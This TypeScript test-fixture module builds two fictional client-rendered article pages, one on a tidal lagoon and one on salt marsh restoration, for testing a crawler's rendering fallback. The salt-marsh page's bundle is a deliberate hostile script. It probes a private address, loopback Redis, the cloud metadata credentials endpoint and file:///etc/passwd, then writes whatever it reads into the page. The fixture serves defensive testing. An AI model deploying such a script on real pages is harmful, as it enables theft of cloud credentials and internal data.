/**
 * Pages that a script builds in the browser, for the rendering fallback: their HTML is an empty shell
 * (an application root, a module bundle, a <noscript> note); the article comes from a JSON file the
 * bundle fetches. One is an ordinary news app; the other's script also tries to reach what a page must
 * never reach from a reader's browser: a private address, another port on loopback, the cloud metadata
 * address, and file:///etc/passwd (its targets can be pointed at test servers with ?private=host:port and
 * ?loopback=host:port). Their subjects are outside the three topics, so only their own tests read them.
 * All text is original and fictional.
 */
import { escapeHtml } from '../markup';
import type { CorpusPage } from '../types';

interface Block {
  type: 'heading' | 'paragraph';
  text: string;
}

interface AppArticle {
  headline: string;
  author: string;
  published: string;
  blocks: Block[];
}

interface RenderedSite {
  name: string;
  /** First path segment of every URL of the site. */
  root: string;
  nav: string[];
  footer: string;
}

/** What the corpus index needs of each URL (the same shape as its own entries). */
export interface RenderedEntry {
  page: CorpusPage;
  mainText: string;
  body: () => Buffer;
}

const tidewatch: RenderedSite = { name: 'Tidewatch', root: 'tidewatch', nav: ['Lagoons', 'Barrages', 'Open data', 'About'], footer: '© 2026 Tidewatch Energy Data · Data licence · Contact' };
const atlas: RenderedSite = { name: 'Saltmarsh Atlas', root: 'saltmarsh-atlas', nav: ['Sites', 'Species', 'Methods', 'About the atlas'], footer: '© 2026 Saltmarsh Atlas · Open government data · Accessibility' };

const LAGOON: AppArticle = {
  headline: 'Porthmear tidal lagoon: the first full year of power',
  author: 'Elin Trevorrow',
  published: '2026-02-11',
  blocks: [
    { type: 'paragraph', text: 'The Porthmear tidal lagoon generated 412 gigawatt hours of power in its first full year, its operator said, enough for about 140,000 homes on the north coast.' },
    { type: 'paragraph', text: 'Tidal lagoon output follows the moon rather than the weather, so the operator could publish its generation schedule for the whole year in January and meet it within two percent.' },
    { type: 'heading', text: 'Turbines and sluices' },
    { type: 'paragraph', text: 'Across the year the lagoon ran at a capacity factor of 19.6 percent, below the 22 percent promised at planning, because two of the sixteen turbines waited five months for replacement bearings.' },
    { type: 'paragraph', text: 'The sluice gates opened 1,460 times to refill the basin on slack water, and each cycle took between forty and fifty minutes depending on the tidal range.' },
    { type: 'heading', text: 'What comes next' },
    { type: 'paragraph', text: 'The regional power network now counts the tidal lagoon as firm capacity for its evening peak, the first time a tidal scheme has been given that status on this coast.' },
  ],
};

const MARSH: AppArticle = {
  headline: 'Blackwater managed realignment: salt marsh restoration after six winters',
  author: 'Rosalind Okafor',
  published: '2026-01-20',
  blocks: [
    { type: 'paragraph', text: 'Six winters after the sea wall was breached on purpose, the Blackwater realignment site holds 38 hectares of new salt marsh, surveyors for the atlas reported.' },
    { type: 'paragraph', text: 'Salt marsh restoration of this kind lets the tide back onto former grazing land, where sediment settles and cordgrass colonises the mud within three seasons.' },
    { type: 'heading', text: 'Birds and sediment' },
    { type: 'paragraph', text: 'Winter counts of redshank on the restored marsh rose to 1,150 birds, and the marsh surface gained eleven millimetres of sediment a year, keeping pace with the rising sea.' },
    { type: 'paragraph', text: 'The surveyors expect the restored salt marsh to absorb wave energy that would otherwise reach the new inland flood bank during storms.' },
  ],
};

/** The page's main text as a careful reader of the rendered page gets it: headline, byline, body. */
function articleText(article: AppArticle): string {
  const body = article.blocks.map((b) => (b.type === 'heading' ? `## ${b.text}` : b.text)).join('\n\n');
  return `${article.headline}\n\nBy ${article.author} · ${article.published}\n\n${body}`;
}

/** The HTML a server sends for an application page: the site's header and footer, an empty root, the bundle. */
function shellHtml(site: RenderedSite, title: string, bundlePath: string): string {
  const nav = site.nav.map((item) => `<li><a href="/${site.root}/${item.toLowerCase().replace(/[^a-z]+/g, '-')}">${escapeHtml(item)}</a></li>`).join('');
  return `<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta name="viewport" content="width=device-width, initial-scale=1">
  <title>${escapeHtml(title)} | ${escapeHtml(site.name)}</title>
  <link rel="modulepreload" href="${bundlePath}">
  <script type="module" src="${bundlePath}"></script>
</head>
<body>
  <header class="site-header"><a class="logo" href="/${site.root}/">${escapeHtml(site.name)}</a><nav aria-label="Main menu"><ul>${nav}</ul></nav></header>
  <main><div id="root"></div></main>
  <noscript>You need to enable JavaScript to read ${escapeHtml(site.name)}.</noscript>
  <footer><p>${escapeHtml(site.footer)}</p></footer>
</body>
</html>
`;
}

/** The bundle's job, as app bundles do it: fetch the article as JSON and build it into the root. */
const BUILD_ARTICLE = `
function buildArticle(a) {
  var article = document.createElement('article');
  var h1 = document.createElement('h1');
  h1.textContent = a.headline;
  article.appendChild(h1);
  var byline = document.createElement('p');
  byline.className = 'byline';
  byline.textContent = 'By ' + a.author + ' \\u00b7 ' + a.published;
  article.appendChild(byline);
  a.blocks.forEach(function (b) {
    var el = document.createElement(b.type === 'heading' ? 'h2' : 'p');
    el.textContent = b.text;
    article.appendChild(el);
  });
  document.getElementById('root').appendChild(article);
  document.title = a.headline + ' | ' + document.title.split(' | ').pop();
}
`;

function appBundle(dataPath: string): string {
  return `${BUILD_ARTICLE}
fetch(${JSON.stringify(dataPath)}, { headers: { accept: 'application/json' } })
  .then(function (response) { return response.json(); })
  .then(buildArticle);
`;
}

/**
 * The hostile bundle: builds its article, then tries every way a page has to make the browser reach
 * somewhere: fetch, XMLHttpRequest, an image, frames, a WebSocket, a beacon, a preconnect. What it
 * manages to read it writes into the page, where a reader of the page would find it.
 */
function hostileBundle(dataPath: string): string {
  return `${BUILD_ARTICLE}
var query = new URLSearchParams(location.search);
var privateHost = query.get('private') || '10.0.0.1';
var loopbackHost = query.get('loopback') || '127.0.0.1:6379';
var targets = [
  'http://' + privateHost + '/admin/config',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://' + loopbackHost + '/',
  'file:///etc/passwd'
];
function note(text) {
  var list = document.getElementById('probes') || document.body.appendChild(Object.assign(document.createElement('ul'), { id: 'probes' }));
  var item = document.createElement('li');
  item.textContent = text;
  list.appendChild(item);
}
function probe() {
  targets.forEach(function (target) {
    fetch(target).then(function (r) { return r.text(); }).then(
      function (body) { note('fetch read ' + target + ': ' + body.slice(0, 300)); },
      function () { note('fetch refused ' + target); });
    var xhr = new XMLHttpRequest();
    xhr.onload = function () { note('xhr read ' + target + ': ' + xhr.responseText.slice(0, 300)); };
    xhr.onerror = function () { note('xhr refused ' + target); };
    try { xhr.open('GET', target); xhr.send(); } catch (e) { note('xhr refused ' + target); }
    new Image().src = target;
    var frame = document.createElement('iframe');
    frame.src = target;
    document.body.appendChild(frame);
  });
  try { new WebSocket('ws://' + loopbackHost + '/'); } catch (e) { note('websocket refused'); }
  try { navigator.sendBeacon('http://' + privateHost + '/beacon', 'ping'); } catch (e) { note('beacon refused'); }
  var hint = document.createElement('link');
  hint.rel = 'preconnect';
  hint.href = 'http://' + loopbackHost;
  document.head.appendChild(hint);
}
fetch(${JSON.stringify(dataPath)}).then(function (response) { return response.json(); }).then(function (a) { buildArticle(a); probe(); });
`;
}

const HTML = 'text/html; charset=utf-8';

function app(
  site: RenderedSite,
  slug: string,
  article: AppArticle,
  page: Pick<CorpusPage, 'topic' | 'title' | 'snippet' | 'facts'>,
  bundle: (dataPath: string) => string,
  bundleName: string,
): RenderedEntry[] {
  const path = `/${site.root}/${slug}`;
  const dataPath = `/${site.root}/api/${slug.split('/').pop()}.json`;
  const bundlePath = `/${site.root}/assets/${bundleName}`;
  const common = { topic: page.topic, boilerplate: [], status: 200, onTopic: true, site: site.name, published: article.published };
  const asset = (assetPath: string, contentType: string, text: string): RenderedEntry => ({
    page: { ...common, path: assetPath, title: `${site.name} ${assetPath.split('/').pop()}`, snippet: `A file the ${site.name} application loads to show its pages.`, kind: 'asset', facts: [], contentType, indexed: false },
    mainText: '',
    body: () => Buffer.from(text, 'utf8'),
  });
  return [
    {
      page: { ...common, ...page, path, kind: 'client-rendered', contentType: HTML, indexed: true },
      mainText: articleText(article),
      body: () => Buffer.from(shellHtml(site, page.title.replace(/ \| .*$/, ''), bundlePath), 'utf8'),
    },
    asset(bundlePath, 'text/javascript; charset=utf-8', bundle(dataPath)),
    asset(dataPath, 'application/json; charset=utf-8', JSON.stringify(article)),
  ];
}

/** The client-rendered news app page; its facts come only from the JSON its bundle fetches. */
export const CLIENT_RENDERED = app(
  tidewatch,
  'lagoons/porthmear-first-year',
  LAGOON,
  {
    topic: 'tidal lagoon power',
    title: 'Porthmear tidal lagoon: the first full year of power | Tidewatch',
    snippet: 'How the Porthmear tidal lagoon performed in its first full year: output, turbine availability, sluice cycles and its place on the regional network.',
    facts: ['412 gigawatt hours', 'capacity factor of 19.6 percent', 'opened 1,460 times'],
  },
  appBundle,
  'app-4f9c2a.js',
);

/** The hostile app page: a real article, and a bundle that tries to reach private addresses and files. */
export const HOSTILE_SCRIPT = app(
  atlas,
  'sites/blackwater-realignment',
  MARSH,
  {
    topic: 'salt marsh restoration',
    title: 'Blackwater managed realignment: salt marsh restoration after six winters | Saltmarsh Atlas',
    snippet: 'Survey results from the Blackwater managed realignment site: how much salt marsh has formed, which birds use it and how fast sediment builds up.',
    facts: ['38 hectares of new salt marsh', '1,150 birds', 'eleven millimetres of sediment a year'],
  },
  hostileBundle,
  'atlas-7d21e0.js',
);

export const RENDERED_ENTRIES: RenderedEntry[] = [...CLIENT_RENDERED, ...HOSTILE_SCRIPT];
